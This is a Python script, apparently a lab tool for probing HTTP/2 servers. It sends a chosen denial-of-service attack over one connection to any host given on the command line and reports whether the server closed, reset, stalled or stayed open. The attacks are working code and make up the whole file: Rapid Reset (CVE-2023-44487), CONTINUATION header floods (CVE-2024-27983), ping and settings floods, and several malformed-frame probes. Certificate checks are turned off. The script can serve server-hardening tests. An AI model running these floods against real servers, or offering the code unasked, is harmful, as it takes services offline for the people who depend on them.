"""python3 h2abuse.py HOST ATTACK: abuses one HTTP/2 connection; prints what came of it.

closed: the server ended the connection; reset: it ended the stream; stuck: it stopped reading; still open: none of it.
"""
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

PATIENCE = 20


def connect(host):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, 443), timeout=PATIENCE)
    stream = context.wrap_socket(plain, server_hostname="lab.example.com")
    assert stream.selected_alpn_protocol() == "h2"
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    connection.initiate_connection()
    stream.sendall(connection.data_to_send())
    return stream, connection


def headers(path="/"):
    return [(":method", "GET"), (":scheme", "https"), (":authority", "lab.example.com"), (":path", path)]


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def rapid_reset(stream, connection):
    """CVE-2023-44487: open a stream and reset it at once, again and again."""
    block = connection.encoder.encode(headers())
    for number in range(1, 200_000, 2):
        stream.sendall(frame(1, 0x5, number, block) + frame(3, 0, number, struct.pack(">I", 8)))
        block = connection.encoder.encode(headers())


def continuation_flood(stream, connection):
    """CVE-2024-27983 and its like: headers that never end."""
    stream.sendall(frame(1, 0, 1, connection.encoder.encode(headers())))
    for number in range(100_000):
        name, value = b"x-%d" % number, b"a" * 4000
        literal = b"\x00" + bytes([len(name)]) + name + b"\x7f" + _rest(len(value) - 127) + value
        stream.sendall(frame(9, 0, 1, literal))


def _rest(number):
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    out.append(number)
    return bytes(out)


def empty_continuations(stream, connection):
    """The same without a byte of headers."""
    stream.sendall(frame(1, 0, 1, connection.encoder.encode(headers())))
    for _ in range(1_000_000):
        stream.sendall(frame(9, 0, 1) * 100)


def ping_flood(stream, connection):
    """Pings whose answers are never read."""
    stream.settimeout(3)
    for _ in range(1_000_000):
        stream.sendall(frame(6, 0, 0, b"12345678") * 100)


def settings_flood(stream, connection):
    """Settings whose acknowledgements are never read."""
    stream.settimeout(3)
    for _ in range(1_000_000):
        stream.sendall(frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 100)


def data_on_stream_0(stream, connection):
    stream.sendall(frame(0, 0, 0, b"data"))


def headers_with_connection(stream, connection):
    block = connection.encoder.encode(headers() + [("connection", "x-a"), ("x-a", "1")])
    stream.sendall(frame(1, 0x5, 1, block))


def two_lengths(stream, connection):
    block = connection.encoder.encode(headers() + [("content-length", "0"), ("content-length", "3")])
    stream.sendall(frame(1, 0x5, 1, block))


def window_overflow(stream, connection):
    stream.sendall(frame(8, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2)


def attack(host, name):
    stream, connection = connect(host)
    ended = "still open"
    try:
        globals()[name](stream, connection)
        stream.settimeout(PATIENCE)
        ended = listen(stream, connection)
    except (ConnectionError, ssl.SSLError, socket.timeout, TimeoutError) as error:
        ended = "stuck" if isinstance(error, (socket.timeout, TimeoutError)) else "closed"
    stream.close()
    return ended


def listen(stream, connection):
    began = time.monotonic()
    while time.monotonic() - began < PATIENCE:
        data = stream.recv(65536)
        if not data:
            return "closed"
        try:
            events = connection.receive_data(data)
        except Exception:  # pylint: disable=broad-except
            # Answers to streams that h2 knows nothing of.
            continue
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                return "closed"
            if isinstance(event, h2.events.StreamReset):
                return "reset"
    return "still open"


print(attack(sys.argv[1], sys.argv[2]))
